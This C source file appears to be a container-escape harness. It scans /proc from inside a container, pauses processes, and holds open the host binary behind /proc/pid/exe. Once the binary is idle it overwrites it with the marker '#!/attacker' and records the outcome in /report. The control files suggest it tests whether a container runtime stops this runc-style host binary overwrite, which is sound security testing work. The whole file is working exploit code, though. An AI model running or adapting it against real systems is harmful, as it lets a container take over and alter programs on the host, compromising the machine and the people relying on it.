// In the container: looks for processes that run a program of the host, stops them, takes hold of the program, and writes to it
// as soon as nobody runs it any more. Arguments: the program's inode, and the first pid to look at. Files of the container: /seen appears when it is held,
// /stop ends the search, /report says how the attempts to write ended.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int held[64];
static pid_t owner[64];
static int count;

static void look(pid_t pid, ino_t wanted) {
    for (int i = 0; i < count; i++)
        if (owner[i] == pid) return;
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    struct stat file;
    if (kill(pid, SIGSTOP)) return;
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && !fstat(fd, &file) && file.st_ino == wanted && count < 64) {
        owner[count] = pid;
        held[count++] = fd;
        close(open("/seen", O_CREAT | O_WRONLY, 0666));
    } else if (fd >= 0) {
        close(fd);
    }
    kill(pid, SIGCONT);
}

int main(int argc, char **argv) {
    ino_t wanted = strtoull(argv[1], 0, 10);
    pid_t first = argc > 2 ? atoi(argv[2]) : 2;
    while (access("/stop", F_OK)) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            pid_t pid = atoi(entry->d_name);
            if (pid >= first && pid != getpid()) look(pid, wanted);
        }
        closedir(proc);
    }
    FILE *report = fopen("/report.new", "w");
    for (int i = 0; i < count; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int fd = -1;
        for (int tries = 0; tries < 2000; tries++) {
            fd = open(path, O_WRONLY);
            if (fd >= 0 || errno != ETXTBSY) break;
            nanosleep(&(struct timespec){0, 1000000}, 0);
        }
        if (fd >= 0 && write(fd, "#!/attacker", 11) == 11)
            fprintf(report, "overwritten\n");
        else
            fprintf(report, "%s\n", strerror(errno));
    }
    fclose(report);
    rename("/report.new", "/report");
    for (;;) pause();
}
